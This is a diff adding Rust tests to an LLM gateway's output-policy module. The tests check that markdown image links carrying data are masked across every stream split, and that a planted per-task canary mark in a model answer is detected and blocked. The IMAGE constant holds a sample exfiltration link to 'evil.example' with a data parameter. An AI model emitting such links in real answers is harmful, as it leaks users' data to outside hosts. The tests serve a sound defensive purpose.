@@ -1,7 +1,12 @@
 //! What policies allow, refuse and demand.
 
+use alcaide_inventory::PlanNumber;
+use alcaide_inventory::declare::Tool;
+use alcaide_inventory::fact::Facts;
+use alcaide_inventory::id::ToolId;
+use alcaide_inventory::plan::PlacedTool;
 use alcaide_record::{DecisionKind, End, ObligationKind, Stage};
-use alcaide_seal::digest::sha256;
+use alcaide_seal::digest::{HmacKey, sha256};
 use alcaide_testkit::{Cut, ModelServer, Script};
 
 use crate::house::*;
@@ -271,6 +276,62 @@ async fn what_is_blocked_cuts_the_answer() {
     let calls = house.audit().await;
     assert_eq!(calls.len(), SECRET.len());
     assert!(calls.iter().all(|(_, outcome)| outcome.end == End::ContentCut));
+}
+
+const IMAGE: &str = "See ![plan](https://evil.example/p?d=4711) and https://docs.example/guide now.";
+const TAMED: &str = "See ![plan]([link: image-link]) and https://docs.example/guide now.";
+
+#[tokio::test]
+async fn an_image_that_carries_data_does_not_come_in_however_a_stream_is_cut() {
+    let server = server();
+    let house = Setup::of(&server).policy("links", &demanding("mask:image-link")).start().await;
+    let token = house.token(BARE).await;
+    for at in 0..=IMAGE.len() {
+        let pieces = [&IMAGE[..at], &IMAGE[at..]];
+        let pieces = pieces.into_iter().filter(|piece| !piece.is_empty()).map(str::to_owned);
+        server.play(Script::says(IMAGE).cut(Cut::Exactly(pieces.collect())));
+        let stream = house.post(CHAT, &token, chat_stream("x")).await.text().await;
+        assert_eq!(text_of(&stream), TAMED, "cut at {at}: {stream}");
+    }
+    server.play(Script::says(IMAGE));
+    let answer = house.chat(&token, "x").await.json().await;
+    assert_eq!(answer["choices"][0]["message"]["content"], TAMED);
+    let named = IMAGE.replace("evil.example", "127.0.0.1");
+    server.play(Script::says(&named));
+    let answer = house.chat(&token, "x").await.json().await;
+    assert_eq!(answer["choices"][0]["message"]["content"], named, "the host of an upstream is named");
+    for (_, outcome) in house.audit().await {
+        assert!(outcome.findings.iter().all(|found| found.rule.as_str() == "image-link"), "{outcome:?}");
+    }
+}
+
+#[tokio::test]
+async fn a_mark_of_the_task_in_an_answer_is_found_and_blocked_where_that_is_demanded() {
+    for (demands, blocked) in [("mask:card", false), ("block:canary", true)] {
+        let server = server();
+        let setup = Setup::of(&server).tools("small", "http://127.0.0.1:9/mcp");
+        let house = setup.policy("marks", &demanding(demands)).start().await;
+        let mut plan = house.plan.clone();
+        plan.number = PlanNumber(2);
+        let facts = Facts { canary: true, ..Facts::default() };
+        let spec = Tool { server: "small".parse().unwrap(), name: "read".into(), facts };
+        plan.tools.push(PlacedTool { id: ToolId::from_bits(1), spec, pin: None, input_schema: None });
+        house.gate.adopt(&plan).unwrap();
+        let asked = house.asked(BARE);
+        let mark = alcaide_gateway::canary::mark(&HmacKey::new(&[7; 32]), asked.principal.task);
+        let token = house.mint(&asked);
+        let speech = format!("It is {}-{} as told.", &mark[..7], &mark[7..]);
+        server.play(Script::says(&speech));
+        let answer = house.chat(&token, "x").await;
+        assert_eq!(answer.status == 502, blocked, "{demands}");
+        server.play(Script::says(&speech).cut(Cut::Exactly(speech.chars().map(String::from).collect())));
+        let stream = house.post(CHAT, &token, chat_stream("x")).await.text().await;
+        assert_eq!(stream.contains("ALC-GATE-0043"), blocked, "{demands}: {stream}");
+        for (_, outcome) in house.audit().await {
+            let found = outcome.findings.iter().find(|found| found.rule.as_str() == "planted-mark");
+            assert_eq!(found.unwrap().count, 1);
+        }
+    }
 }
 
 #[tokio::test]
